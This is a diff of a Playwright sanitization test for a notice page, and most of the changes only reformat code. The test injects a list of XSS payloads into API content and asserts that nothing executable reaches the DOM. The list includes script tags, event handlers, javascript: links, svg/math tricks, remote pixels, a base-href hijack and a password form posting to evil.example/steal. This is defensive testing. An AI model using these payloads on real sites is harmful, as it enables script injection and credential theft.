@@ -13,17 +13,17 @@ import { client } from './players.ts';
 const PAYLOAD = [
   '<p>Visible text A</p>',
   "<script>window.__pwned='script';alert('script')</script>",
-  "<img src=\"x\" onerror=\"window.__pwned='onerror';alert(1)\">",
-  "<p onclick=\"window.__pwned='onclick'\" onmouseover=\"window.__pwned='hover'\">Click text B</p>",
-  "<a class=\"evil-link\" href=\"javascript:window.__pwned='js';alert(2)\">Link text C</a>",
-  "<iframe src=\"https://evil.example/frame\" onload=\"window.__pwned='iframe'\"></iframe>",
-  "<svg onload=\"window.__pwned='svg'\"><script>window.__pwned='svgscript'</script><image href=\"https://evil.example/svg.png\"/><text>svg text</text></svg>",
-  "<math><mtext><img src=x onerror=\"window.__pwned='math'\"></mtext></math>",
+  '<img src="x" onerror="window.__pwned=\'onerror\';alert(1)">',
+  '<p onclick="window.__pwned=\'onclick\'" onmouseover="window.__pwned=\'hover\'">Click text B</p>',
+  '<a class="evil-link" href="javascript:window.__pwned=\'js\';alert(2)">Link text C</a>',
+  '<iframe src="https://evil.example/frame" onload="window.__pwned=\'iframe\'"></iframe>',
+  '<svg onload="window.__pwned=\'svg\'"><script>window.__pwned=\'svgscript\'</script><image href="https://evil.example/svg.png"/><text>svg text</text></svg>',
+  '<math><mtext><img src=x onerror="window.__pwned=\'math\'"></mtext></math>',
   '<img src="https://evil.example/pixel.png" alt="pixel">',
   '<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4" autoplay></video>',
   '<audio src="https://evil.example/a.mp3" autoplay></audio>',
   '<p style="background:u\\72l(https://evil.example/css.png)">Styled text D</p>',
-  "<p style=\"background-image:image-set('https://evil.example/set.png' 1x)\">Styled text E</p>",
+  '<p style="background-image:image-set(\'https://evil.example/set.png\' 1x)">Styled text E</p>',
   '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
   '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
   '<base href="https://evil.example/">',
@@ -39,7 +39,8 @@ const TEXTS = ['Visible text A', 'Click text B', 'Link text C', 'Styled text D',
 /** Every `content` field of an answer with the payload put in front. */
 function poisoned(v: unknown): unknown {
   if (Array.isArray(v)) return v.map(poisoned);
-  if (v && typeof v === 'object') return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, k === 'content' && typeof x === 'string' ? PAYLOAD + x : poisoned(x)]));
+  if (v && typeof v === 'object')
+    return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, k === 'content' && typeof x === 'string' ? PAYLOAD + x : poisoned(x)]));
   return v;
 }
 
@@ -65,9 +66,13 @@ async function expectHarmless(page: Page, scope: string, seen: { dialogs: string
   for (const text of TEXTS) await expect(box).toContainText(text);
   // Nothing executable or loading made it into the DOM.
   const bad = await box.evaluate((el) => ({
-    elements: [...el.querySelectorAll('script, iframe, svg, math, object, embed, form, input, video, audio, source, base, meta, link, style')].map((e) => e.tagName),
+    elements: [...el.querySelectorAll('script, iframe, svg, math, object, embed, form, input, video, audio, source, base, meta, link, style')].map(
+      (e) => e.tagName,
+    ),
     handlers: [...el.querySelectorAll('*')].flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.tagName}.${a.name}`)),
-    jsLinks: [...el.querySelectorAll('[href], [src], [action], [poster]')].filter((e) => /javascript:|evil\.example/i.test(e.outerHTML)).map((e) => e.outerHTML),
+    jsLinks: [...el.querySelectorAll('[href], [src], [action], [poster]')]
+      .filter((e) => /javascript:|evil\.example/i.test(e.outerHTML))
+      .map((e) => e.outerHTML),
     styles: [...el.querySelectorAll('[style]')].map((e) => e.getAttribute('style')).filter((s) => /url|image-set|\\/i.test(s ?? '')),
   }));
   expect(bad).toEqual({ elements: [], handlers: [], jsLinks: [], styles: [] });
@@ -104,7 +109,12 @@ for (const brand of BRANDS) {
       await hydrated(page);
       // The preview is plain text: no markup at all.
       await expect(page.locator('.lk-notice__preview').first()).toContainText('Visible text A');
-      expect(await page.locator('.lk-notice__preview').first().evaluate((el) => el.children.length)).toBe(0);
+      expect(
+        await page
+          .locator('.lk-notice__preview')
+          .first()
+          .evaluate((el) => el.children.length),
+      ).toBe(0);
       await page.goto(brandUrl(brand, `/m/noticeDetail?id=${list[0]!.id}`));
       await hydrated(page);
       await expectHarmless(page, '.lk-notice-detail__content', seen);
